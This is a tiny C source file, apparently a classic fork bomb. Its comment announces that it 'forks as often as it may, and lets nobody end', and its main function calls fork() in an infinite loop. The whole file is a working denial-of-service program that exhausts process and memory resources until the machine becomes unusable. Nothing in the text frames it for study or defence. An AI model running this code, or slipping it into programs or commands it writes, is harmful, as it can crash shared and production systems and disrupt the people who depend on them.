/* Forks as often as it may, and lets nobody end. */
#include <unistd.h>

int main(void) {
    for (;;) {
        fork();
    }
}
